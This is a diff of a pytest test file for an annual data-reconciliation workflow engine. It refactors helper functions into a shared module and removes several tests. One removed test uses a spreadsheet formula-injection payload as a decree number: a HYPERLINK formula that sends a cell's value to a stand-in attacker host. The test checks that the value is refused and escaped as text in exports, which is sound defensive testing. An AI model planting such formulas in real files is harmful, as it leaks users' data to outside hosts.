@@ -6,12 +6,11 @@ import pytest
 from sqlalchemy import func, select
 
 from engine.bpmn import definitions
-from engine.core.actors import Actor
 from engine.core.config import DEFAULT_BPMN_DIR
 from engine.core.errors import Conflict, Forbidden, Invalid, NotFound
 from engine.people import users
 from engine.quality import aggregates, review
-from engine.verification import decisions, determinations, forum_review, inbox, reconciliation, register
+from engine.verification import decisions, determinations, forum_review, inbox, reconciliation
 from models import (
     Determination,
     FlagStatus,
@@ -19,49 +18,24 @@ from models import (
     ProcessInstance,
     Record,
     Severity,
-    SubmissionItem,
-    TaskStatus,
-    VervalStatus,
 )
 from tests.factories import (
-    RECONCILIATION_YEAR,
     SYSTEM,
     decide,
     finish_as_system,
     open_period,
     person_row,
-    reconciliation_year,
     submit,
 )
-
-YEAR = RECONCILIATION_YEAR
-
-
-def person(db, username):
-    with db.read() as session:
-        return Actor.of(users.find_user(session, username))
-
-
-@pytest.fixture
-def year(db):
-    reconciliation_year(db)
-    return db
-
-
-def open_tasks(db, bpmn_id):
-    with db.read() as session:
-        return list(
-            session.scalars(
-                select(HumanTask)
-                .where(HumanTask.bpmn_id == bpmn_id, HumanTask.status == TaskStatus.TERBUKA)
-                .order_by(HumanTask.region_kode)
-            )
-        )
-
-
-def flags_of(db, region="65"):
-    with db.read() as session:
-        return reconciliation.year_flags(session, "65", YEAR, region)
+from tests.integration.reconciliation_steps import (
+    YEAR,
+    accept_at_forum,
+    determine,
+    flags_of,
+    open_tasks,
+    person,
+    review_regencies,
+)
 
 
 def test_lanes_name_roles_at_tiers_and_unknown_ones_are_refused():
@@ -219,104 +193,6 @@ def test_only_the_province_opens_a_year(year):
         reconciliation.open_year(session, SYSTEM, "65", "20x6")
 
 
-def _to_the_head(db, year, alasan_revisi=None):
-    """Run a year through the regencies' and the Forum's tasks at once: explanations, acceptance."""
-    with db.transaction() as session:
-        reconciliation.open_year(session, SYSTEM, "65", year, force=True, alasan_revisi=alasan_revisi)
-    for task in open_tasks(db, "tinjauan_kabupaten"):
-        with db.transaction() as session:
-            for flag in reconciliation.year_flags(session, "65", year, task.region_kode):
-                if flag.status == FlagStatus.TERBUKA and task.region_kode == "65.01":
-                    reconciliation.explain_flag(
-                        session, person(db, "walidata.kab"), task.id, flag.id, review.FlagAction.EXPLAIN, "wajar"
-                    )
-        with db.transaction() as session:
-            finish_as_system(session, session.get(HumanTask, task.id))
-    (forum,) = open_tasks(db, "tinjauan_forum")
-    with db.transaction() as session:
-        listed = forum_review.discrepancies(session, session.get(ProcessInstance, forum.instance_id))
-        verdicts = {f.id: ("terima", "") for f in listed}
-        forum_review.forum_review(session, person(db, "forum.sdi"), forum_review.ForumReview(forum.id, verdicts))
-    (head,) = open_tasks(db, "penetapan_kepala")
-    return head
-
-
-def _determine(db, year, decree, alasan_revisi=None):
-    """Run a year through every task at once: explanations, the Forum's acceptance, the decree."""
-    head = _to_the_head(db, year, alasan_revisi)
-    with db.transaction() as session:
-        reconciliation.decide_determination(
-            session,
-            person(db, "kepala.dinas"),
-            reconciliation.HeadDecision(head.id, "approve", "", decree, "2026-11-25"),
-        )
-
-
-def test_figures_changed_after_the_forum_are_counted_again_before_they_are_determined(year):
-    """A record verified between the Forum's review and the head's approval changes the figures: the
-    head sees which, approval is refused, and a return counts them again for the Forum."""
-    head = _to_the_head(year, YEAR)
-    late = open_period(year, f"{YEAR}-Q3", [person_row(5, kategori="ODHA")])
-    submit(year, "op.desa", late)
-    for user in ("verif.kec", "verif.kab", "valid.prov"):
-        decide(year, user, late, "approve")
-    with year.read() as session:
-        shown = reconciliation.proposal(session, session.get(ProcessInstance, head.instance_id))
-    assert ("ODHA", 2, [2, 0, 0, 0, 0]) in shown.baris  # what approval would freeze: the records now
-    assert [(d.wilayah, d.kategori, d.dihitung, d.sekarang) for d in shown.berubah[:2]] == [
-        ("65", "ODHA", 1, 2),
-        ("65.01", "ODHA", 1, 2),
-    ]
-    approve = reconciliation.HeadDecision(head.id, "setuju", "", "SK-9/2027", "2026-11-25")
-    with year.transaction() as session, pytest.raises(Invalid) as refused:
-        reconciliation.decide_determination(session, person(year, "kepala.dinas"), approve)
-    assert "berubah sejak dihitung ulang" in str(refused.value)
-    assert refused.value.problems[0].message == "65 ODHA: 1 menjadi 2"
-    with year.read() as session:
-        assert session.scalar(select(func.count()).select_from(Determination)) == 0
-
-    back = reconciliation.HeadDecision(head.id, "kembalikan", "ada ODHA yang baru diverifikasi")
-    with year.transaction() as session:
-        reconciliation.decide_determination(session, person(year, "kepala.dinas"), back)
-    (forum,) = open_tasks(year, "tinjauan_forum")  # counted again on the way back to the Forum
-    with year.read() as session:
-        instance = session.get(ProcessInstance, forum.instance_id)
-        assert reconciliation.proposal(session, instance).berubah == []
-        listed = forum_review.discrepancies(session, instance)
-    with year.transaction() as session:
-        verdicts = {f.id: ("terima", "") for f in listed}
-        forum_review.forum_review(session, person(year, "forum.sdi"), forum_review.ForumReview(forum.id, verdicts))
-    (again,) = open_tasks(year, "penetapan_kepala")
-    approve = reconciliation.HeadDecision(again.id, "setuju", "", "SK-9/2027", "2026-11-25")
-    with year.transaction() as session:
-        reconciliation.decide_determination(session, person(year, "kepala.dinas"), approve)
-    with year.read() as session:
-        frozen = session.scalar(select(Determination))
-    assert ["65", "ODHA", 2] in frozen.content["angka"]
-
-
-def test_a_category_whose_last_record_is_gone_is_counted_as_zero(year):
-    """Counted again, a figure no record gives any more is stored as 0, not kept at its old value."""
-    with year.transaction() as session:
-        assert aggregates.snapshot_records(session, SYSTEM, str(YEAR), "65")
-    removal = open_period(year, f"{YEAR}-Q3", [])  # the desa's register, re-verified once more
-    with year.transaction() as session:
-        operator = person(year, "op.desa")
-        register.prefill(session, {"65.01.01.2005": removal})
-        odha = session.scalar(
-            select(SubmissionItem.id).where(SubmissionItem.submission_id == removal, SubmissionItem.kategori == "ODHA")
-        )
-        register.set_status(session, operator, removal, [odha], VervalStatus.MENINGGAL, "meninggal Oktober")
-    submit(year, "op.desa", removal)
-    for user in ("verif.kec", "verif.kab", "valid.prov"):
-        decide(year, user, removal, "approve")
-    with year.transaction() as session:
-        aggregates.snapshot_records(session, SYSTEM, str(YEAR), "65")
-        before = aggregates.counted_before(session, "65", str(YEAR))
-    assert before[("65", "ODHA")] == 0 and before[("65.01.01.2005", "ODHA")] == 0
-    assert before[("65", "LUT")] == 3
-
-
 def test_a_years_determination_counts_the_register_as_its_cycles_left_it(year):
     """A record verified in the next year's first cycle, while this year is still being reconciled,
     is not one of this year's figures; this year's count stays what its cycles verified."""
@@ -324,7 +200,7 @@ def test_a_years_determination_counts_the_register_as_its_cycles_left_it(year):
     submit(year, "op.desa", later)
     for user in ("verif.kec", "verif.kab", "valid.prov"):
         decide(year, user, later, "approve")
-    _determine(year, YEAR, "SK/2027/001")
+    determine(year, YEAR, "SK/2027/001")
     with year.read() as session:
         frozen = session.scalar(select(Determination).where(Determination.tahun == YEAR))
         counted = {r[0] for r in frozen.content["catatan"]}
@@ -342,7 +218,7 @@ def test_exports_carry_one_hash_and_the_next_year_shows_the_change(year, cli, tm
     import pypdfium2
 
     db = year
-    _determine(db, YEAR, "SK-1/2027")
+    determine(db, YEAR, "SK-1/2027")
     shown = cli("determination", "show", str(YEAR), "--json")
     import json
 
@@ -369,7 +245,7 @@ def test_exports_carry_one_hash_and_the_next_year_shows_the_change(year, cli, tm
     submit(db, "op.desa", more)
     for user in ("verif.kec", "verif.kab", "valid.prov"):
         decide(db, user, more, "approve")
-    _determine(db, YEAR + 1, "SK-2/2028")
+    determine(db, YEAR + 1, "SK-2/2028")
     diff = json.loads(cli("determination", "diff", str(YEAR), str(YEAR + 1), "--json").output)
     change = next(c for c in diff["perubahan"] if (c["wilayah"], c["kategori"]) == ("65.01", "LUT"))
     assert (change["sebelum"], change["sesudah"], change["selisih"]) == (3, 4, 1)
@@ -400,7 +276,7 @@ def test_a_crash_while_computing_or_freezing_leaves_nothing_half_made(year, monk
     with monkeypatch.context() as patched:
         patched.setattr(determinations, "build_content", crash)
         with pytest.raises(Exception, match="listrik padam"):
-            _determine(db, YEAR, "SK-9/2027")
+            determine(db, YEAR, "SK-9/2027")
     (head,) = open_tasks(db, "penetapan_kepala")  # the head's task still waits
     with db.read() as session:
         assert session.scalar(select(func.count()).select_from(Determination)) == 0
@@ -418,7 +294,7 @@ def test_a_determined_year_is_corrected_only_by_a_numbered_revision_with_its_rea
     import json
 
     db = year
-    _determine(db, YEAR, "SK-1/2027")
+    determine(db, YEAR, "SK-1/2027")
     again = json.loads(cli("reconciliation", "open", str(YEAR), "--json").output)
     assert again["dibuka"] is False  # opening the determined year again opens nothing new
     opened = json.loads(
@@ -541,20 +417,8 @@ def test_the_head_cannot_determine_while_a_warning_is_unexplained(year):
     db = year
     with db.transaction() as session:
         reconciliation.open_year(session, SYSTEM, "65", YEAR)
-    for task in open_tasks(db, "tinjauan_kabupaten"):
-        for flag in flags_of(db, task.region_kode):
-            if flag.status == FlagStatus.TERBUKA and task.region_kode == "65.01":
-                with db.transaction() as session:
-                    reconciliation.explain_flag(
-                        session, person(db, "walidata.kab"), task.id, flag.id, review.FlagAction.EXPLAIN, "wajar"
-                    )
-        with db.transaction() as session:
-            finish_as_system(session, session.get(HumanTask, task.id))
-    (forum,) = open_tasks(db, "tinjauan_forum")
-    with db.transaction() as session:
-        listed = forum_review.discrepancies(session, session.get(ProcessInstance, forum.instance_id))
-        verdicts = {f.id: ("terima", "") for f in listed}
-        forum_review.forum_review(session, person(db, "forum.sdi"), forum_review.ForumReview(forum.id, verdicts))
+    review_regencies(db)
+    accept_at_forum(db)
     # after the Forum, the province reopens a warning on the quality page: its explanation no longer holds
     warning = next(f for f in flags_of(db, "65.01") if f.severity == Severity.WARNING)
     with db.transaction() as session:
@@ -575,92 +439,3 @@ def test_the_head_cannot_determine_while_a_warning_is_unexplained(year):
     with db.read() as session:
         assert session.scalar(select(func.count()).select_from(Determination)) == 0
     assert [t.id for t in open_tasks(db, "penetapan_kepala")] == [head.id]  # the head's task still waits
-
-
-def test_a_lane_below_the_years_region_is_refused_with_its_task_named(year):
-    """A regency's review moved to a kecamatan lane: no kecamatan holds a regency's task."""
-    xml = (DEFAULT_BPMN_DIR / "rekonsiliasi_tahunan.bpmn").read_text("utf-8")
-    with year.transaction() as session:
-        definitions.deploy(
-            session, SYSTEM, xml.replace('name="kabupaten:walidata"', 'name="kecamatan"'), confirmed=True
-        )
-    with pytest.raises(Invalid) as refused, year.transaction() as session:
-        reconciliation.open_year(session, person(year, "walidata.prov"), "65", YEAR, force=True)
-    assert "Tinjauan kabupaten/kota" in str(refused.value)
-    assert [p.element for p in refused.value.problems] == ["tinjauan_kabupaten"]
-    with year.read() as session:  # nothing half-opened
-        assert reconciliation.instance_of(session, YEAR) is None
-
-
-def test_a_decree_number_a_spreadsheet_would_run_is_refused_and_never_exported_as_a_formula(year):
-    import csv
-    import io
-    from datetime import date
-
-    import openpyxl
-
-    from engine.verification import determination_exports
-
-    head = _to_the_head(year, YEAR)
-    formula = '=HYPERLINK("http://contoh.jahat/?x="&A2,"SK 1/2026")'
-    refused_cmd = reconciliation.HeadDecision(head.id, "setuju", "", formula, "2026-11-25")
-    with pytest.raises(Invalid) as refused, year.transaction() as session:
-        reconciliation.decide_determination(session, person(year, "kepala.dinas"), refused_cmd)
-    assert [p.column for p in refused.value.problems] == ["nomor_sk"]
-    # one stored before the check (frozen directly here): its exports still show it as text
-    with year.transaction() as session:
-        frozen = determinations.freeze(
-            session, SYSTEM, determinations.Approval("65", YEAR, formula, date(2026, 11, 25))
-        )
-        tz = year.settings.tz
-        text = determination_exports.to_csv(session, frozen, tz).decode()
-        book = openpyxl.load_workbook(io.BytesIO(determination_exports.to_xlsx(session, frozen, tz)))
-    decree = next(row for row in csv.reader(io.StringIO(text)) if row and row[0] == "# nomor_sk")
-    assert decree[1] == "'" + formula
-    cell = next(row[1] for row in book["metadata"].iter_rows() if row[0].value == "nomor_sk")
-    assert cell.value == "'" + formula and cell.data_type == "s"
-
-
-def test_a_year_opened_in_one_process_is_reviewed_in_another(year):
-    """The scheduler or the command line opens the year; the regencies' reviews arrive through the web
-    server, another process with its own parse of the diagram. The last review must still lead on to
-    the Forum (SpiffWorkflow ties the reviews to their parent only where it creates them)."""
-    with year.transaction() as session:
-        reconciliation.open_year(session, SYSTEM, "65", YEAR, force=True)
-    definitions.forget_parsed()  # as another process starts: nothing parsed yet
-    for task in open_tasks(year, "tinjauan_kabupaten"):
-        with year.transaction() as session:
-            for flag in reconciliation.year_flags(session, "65", YEAR, task.region_kode):
-                if flag.status == FlagStatus.TERBUKA and task.region_kode == "65.01":
-                    reconciliation.explain_flag(
-                        session, person(year, "walidata.kab"), task.id, flag.id, review.FlagAction.EXPLAIN, "wajar"
-                    )
-        with year.transaction() as session:
-            finish_as_system(session, session.get(HumanTask, task.id))
-    assert len(open_tasks(year, "tinjauan_forum")) == 1
-
-
-def test_a_year_left_waiting_by_reviews_never_merged_goes_on_after_a_retry(year, monkeypatch):
-    """A year stuck before the fix (its reviews finished where they were not tied to their parent) is
-    moved on by the administrator's retry, which replays the merges that were missed."""
-    from engine.verification import processes
-
-    with year.transaction() as session:
-        opened = reconciliation.open_year(session, SYSTEM, "65", YEAR, force=True)
-    monkeypatch.setattr(definitions, "_tie_loop_children", lambda *specs: None)
-    definitions.forget_parsed()
-    for task in open_tasks(year, "tinjauan_kabupaten"):
-        with year.transaction() as session:
-            for flag in reconciliation.year_flags(session, "65", YEAR, task.region_kode):
-                if flag.status == FlagStatus.TERBUKA and task.region_kode == "65.01":
-                    reconciliation.explain_flag(
-                        session, person(year, "walidata.kab"), task.id, flag.id, review.FlagAction.EXPLAIN, "wajar"
-                    )
-        with year.transaction() as session:
-            finish_as_system(session, session.get(HumanTask, task.id))
-    assert open_tasks(year, "tinjauan_forum") == []  # stuck, as such a year was
-    monkeypatch.undo()
-    definitions.forget_parsed()
-    with year.transaction() as session:
-        processes.retry_instance(session, SYSTEM, opened.instance_id)
-    assert len(open_tasks(year, "tinjauan_forum")) == 1
